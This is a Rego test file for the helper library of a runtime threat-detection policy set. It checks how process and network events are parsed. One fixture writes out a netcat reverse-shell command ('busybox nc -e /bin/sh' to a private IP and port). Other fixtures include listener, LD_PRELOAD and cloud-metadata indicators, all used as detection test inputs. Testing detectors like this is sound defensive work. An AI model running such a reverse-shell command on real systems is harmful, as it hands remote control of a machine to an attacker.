# The views are imported one by one, as rules do (README.md, "regorus
# workarounds"): `lib.names` would evaluate the whole package, and every
# package under palisade.lib with it.
package palisade.lib_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.lib
import data.palisade.lib.args
import data.palisade.lib.argv0
import data.palisade.lib.binary
import data.palisade.lib.cmdline
import data.palisade.lib.daddr
import data.palisade.lib.daddr_internal
import data.palisade.lib.env
import data.palisade.lib.euid_raised
import data.palisade.lib.in_container
import data.palisade.lib.is_shell
import data.palisade.lib.names
import data.palisade.lib.package_installs
import data.palisade.lib.script_path
import data.palisade.lib.shell_command
import data.palisade.lib.where

test_basename if {
	lib.basename("/usr/bin/nc") == "nc"
	lib.basename("nc") == "nc"
	lib.basename("/memfd:x (deleted)") == "memfd:x (deleted)"
	not lib.basename({"text": "x"})
}

test_non_utf8_values_are_read_through_their_text if {
	ev := fx.host_exec({"base64": "L3Vzci9iaW4vbmP/", "text": "/usr/bin/nc\ufffd"}, [{"base64": "bmP/", "text": "nc\ufffd"}, "-l"])
	binary == "/usr/bin/nc\ufffd" with input as ev
	args == ["nc\ufffd", "-l"] with input as ev
	cmdline == "nc\ufffd -l" with input as ev
}

test_names_cover_binary_filename_and_argv0 if {
	ev := fx.with_process(fx.host_exec("/usr/bin/env", ["/usr/bin/env", "node", "/usr/bin/npm", "ci"]), {"filename": "/usr/bin/npm"})
	names == {"env", "npm"} with input as ev
	busybox := fx.host_exec("/bin/busybox", ["nc", "-l"])
	names == {"busybox", "nc"} with input as busybox
	python := fx.host_exec("/usr/bin/python3.12", ["python3", "-m", "pip", "install", "x"])
	names == {"python3.12", "python3", "pip"} with input as python
}

test_a_multicall_binary_called_by_its_name_is_judged_as_the_applet if {
	ev := fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
	args == ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"] with input as ev
	argv0 == "nc" with input as ev
	names == {"busybox", "nc"} with input as ev
	cmdline == "busybox nc -e /bin/sh 10.0.0.1 4444" with input as ev
	toybox := fx.host_exec("/usr/bin/toybox", ["/usr/bin/toybox", "sh", "-c", "id"])
	is_shell with input as toybox
	shell_command == "id" with input as toybox
	# busybox alone, and a program that is no multi-call binary.
	args == ["busybox"] with input as fx.host_exec("/bin/busybox", ["busybox"])
	args == ["env", "nc"] with input as fx.host_exec("/usr/bin/env", ["env", "nc"])
}

test_env_reads_captured_variables_as_strings if {
	ev := fx.with_process(fx.host_exec("/bin/true", ["true"]), {"env": {"LD_PRELOAD": "/x.so", "HISTFILE": {"base64": "/w==", "text": "\ufffd"}}})
	env == {"LD_PRELOAD": "/x.so", "HISTFILE": "\ufffd"} with input as ev
	env == {} with input as fx.host_exec("/bin/true", ["true"])
}

test_shell_command if {
	shell_command == "id" with input as fx.host_exec("/bin/bash", ["bash", "-c", "id"])
	shell_command == "id" with input as fx.host_exec("/bin/bash", ["bash", "-euxc", "id"])
	shell_command == "first" with input as fx.host_exec("/bin/sh", ["sh", "-c", "first", "-c", "second"])
	shell_command == "id" with input as fx.host_exec("/bin/busybox", ["sh", "-c", "id"])
	not shell_command with input as fx.host_exec("/usr/bin/python3", ["python3", "-c", "print(1)"])
	not shell_command with input as fx.host_exec("/bin/bash", ["bash", "script.sh"])
	shell_command == "id" with input as fx.host_exec("/bin/bash", ["bash", "-o", "pipefail", "-e", "-c", "id"])
	not shell_command with input as fx.host_exec("/bin/bash", ["bash", "/root/.pyenv/shims/python3", "-c", "print(1)"])
}

test_in_container if {
	in_container with input as fx.container_exec("/bin/true", ["true"])
	not in_container with input as fx.host_exec("/bin/true", ["true"])
}

test_where if {
	where == "on the host" with input as fx.host_exec("/bin/true", ["true"])
	where == "in container web (registry.example.com/shop/web:1.4.2)" with input as fx.container_exec("/bin/true", ["true"])
	where == "in container 0123456789ab" with input as {"container": {"id": "0123456789abcdef"}}
}

test_daddr_normalises_ipv4_mapped_addresses if {
	daddr == "169.254.169.254" with input as fx.host_connect("::ffff:169.254.169.254", 80)
	daddr == "fd00:ec2::254" with input as fx.host_connect("fd00:ec2::254", 80)
	daddr_internal with input as fx.host_connect("::ffff:10.1.2.3", 80)
	not daddr_internal with input as fx.host_connect("203.0.113.7", 80)
}

test_package_installs if {
	package_installs == {["apt-get", "install"]} with input as fx.host_exec("/usr/bin/apt-get", ["apt-get", "-y", "install", "curl"])
	count(package_installs) == 0 with input as fx.host_exec("/usr/bin/apt-get", ["apt-get", "moo"])
	count(package_installs) == 0 with input as fx.host_exec("/usr/bin/install", ["install", "-m", "755", "a", "b"])
}

test_euid_raised if {
	euid_raised with input as fx.with_process(fx.host_exec("/bin/bash", ["bash"]), {"uid": 1000, "euid": 0})
	not euid_raised with input as fx.host_exec("/bin/bash", ["bash"])
	not euid_raised with input as fx.with_process(fx.host_exec("/bin/bash", ["bash"]), {"uid": 1000, "euid": 1000})
}

test_script_path if {
	script_path == "/tmp/x.sh" with input as fx.host_exec("/bin/bash", ["bash", "-x", "/tmp/x.sh", "a"])
	script_path == "/dev/shm/x.py" with input as fx.host_exec("/usr/bin/python3.12", ["python3", "-W", "ignore", "/dev/shm/x.py"])
	script_path == "/tmp/a.sh" with input as fx.host_exec("/bin/busybox", ["busybox", "sh", "/tmp/a.sh"])
	not script_path with input as fx.host_exec("/bin/bash", ["bash", "-c", "id", "/tmp/x.sh"])
	not script_path with input as fx.host_exec("/usr/bin/python3", ["python3", "-m", "http.server"])
	not script_path with input as fx.host_exec("/usr/bin/perl", ["perl", "-e", "print 1", "/tmp/x"])
	not script_path with input as fx.host_exec("/usr/bin/cat", ["cat", "/tmp/x.sh"])
}
